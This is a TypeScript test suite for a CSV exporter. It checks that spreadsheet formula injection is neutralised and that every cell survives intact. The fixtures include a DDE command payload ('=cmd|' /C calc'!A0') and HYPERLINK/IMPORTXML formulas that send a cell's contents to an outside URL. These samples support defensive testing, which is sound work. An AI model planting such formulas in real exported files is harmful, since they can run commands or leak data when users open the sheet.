import { read, utils } from '@e965/xlsx';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { plain } from '../../../src/exports/plain.ts';
import { csvHead, csvRows, defused } from '../../../src/exports/tables/csv.ts';
import type { Cell } from '../../../src/exports/tables/table.ts';
import { hostile as hostileMarkup } from '../full.ts';
import { hostile } from '../hostile.ts';
import { cellsOf, undefused } from './read.ts';

/** Texts that a spreadsheet would run. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.org/?"&A1,"here")',
  '=IMPORTXML(CONCAT("https://example.org/?",A1),"//a")',
  '+1',
  '-1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\u200B=1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  "'=1+1",
  "''=1+1",
  "' '=1+1",
];

/** Texts that it would run where it parts cells at semicolons, and as they are written. */
const partedFormulas = [
  ['x;=1+1', "x;'=1+1"],
  ["x;=cmd|' /C calc'!A0;y", "x;'=cmd|' /C calc'!A0;y"],
  ['x; @SUM(1)', "x;' @SUM(1)"],
  ["x;'=1+1", "x;''=1+1"],
  ['x;;+1;-2', "x;;'+1;'-2"],
  ['=1;=2', "'=1;'=2"],
] as const;

/** Texts that it leaves alone. */
const harmless = [
  'Liu Xiaobo',
  '2010-10',
  '1=1',
  'a=b',
  "'s-Hertogenbosch",
  "'quoted'",
  '“=1”',
  '(+1)',
  '5 - 3',
  'x; y=1; 5 - 3;',
  '../2010',
  '',
];

const csv = ({ header, rows }: { header: string[]; rows: (readonly Cell[])[] }) =>
  `${csvHead(header)}${csvRows(rows)}`;
const one = (cell: string | readonly string[]) => csv({ header: ['x'], rows: [[cell]] });
const cell = (text: string) => cellsOf(text)[1]?.[0] ?? '';

describe('a formula', () => {
  it.each(formulas)('%j is defused', (text) => {
    expect(defused(text)).toBe(`'${text}`);
  });

  it.each(partedFormulas)('%j is written %j', (text, written) => {
    expect(defused(text)).toBe(written);
    expect(undefused(cell(one(text)))).toBe(text);
  });

  it.each(harmless)('%j is none', (text) => {
    expect(defused(text)).toBe(text);
  });

  it.each(formulas)('%j comes back as it was', (text) => {
    expect(undefused(cell(one(text)))).toBe(plain(text));
  });

  it.each([...formulas, ...hostile, ...hostileMarkup])('%j is run by no spreadsheet', (text) => {
    const sheet = read(one(text), { type: 'string' }).Sheets['Sheet1'] ?? {};
    const cells = Object.entries(sheet).filter(([name]) => /^[A-Z]+\d+$/u.test(name));
    expect(cells.filter(([, value]) => (value as { f?: string }).f !== undefined)).toEqual([]);
  });

  it('would be run where nothing defused it: this library tells', () => {
    const { Sheets } = read('"x"\r\n"=1+1"', { type: 'string' });
    expect((Sheets['Sheet1']?.['A2'] as { f?: string }).f).toBe('1+1');
  });
});

describe('CSV', () => {
  it('begins with a byte-order mark, and ends every line as RFC 4180 says', () => {
    const text = csv({
      header: ['a', 'b'],
      rows: [
        ['x', undefined],
        [1, 'say "x"'],
      ],
    });
    expect(text).toBe('\uFEFF"a","b"\r\n"x",\r\n"1","say ""x"""\r\n');
  });

  it.each([
    [['a', 'b'], 'a|b'],
    [['a|b', 'c'], 'a¦b|c'],
    [['a, b; c'], 'a, b; c'],
    [[], ''],
    [['=1', '=2'], "'=1|=2"],
  ])('writes the list %j as %j', (list, text) => {
    expect(cell(one(list))).toBe(text);
  });

  it.each([...hostile, ...hostileMarkup])('keeps %j in its cell', (text) => {
    const cells = cellsOf(
      csv({
        header: ['a', 'b', 'c'],
        rows: [
          ['1', text, '3'],
          ['4', '5', '6'],
        ],
      }),
    );
    expect(cells.map((row) => row.length)).toEqual([3, 3, 3]);
    expect(undefused(cells[1]?.[1] ?? '')).toBe(plain(text));
    expect(cells[2]).toEqual(['4', '5', '6']);
  });

  it('gives any text back, on one line', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 2 }), (texts) => {
        const text = csv({ header: texts.map((_, index) => `c${index}`), rows: [texts] });
        expect(cellsOf(text)[1]?.map(undefused)).toEqual(texts.map(plain));
        expect(text.split('\r\n')).toHaveLength(3);
      }),
    );
  });

  it('reads in a spreadsheet in every script', () => {
    const bytes = new TextEncoder().encode(one('刘晓波 ئىلھام توختى བོད'));
    const { Sheets } = read(bytes, { type: 'array', raw: true });
    expect(utils.sheet_to_json(Sheets['Sheet1'] ?? {})).toEqual([{ x: '刘晓波 ئىلھام توختى བོད' }]);
  });
});
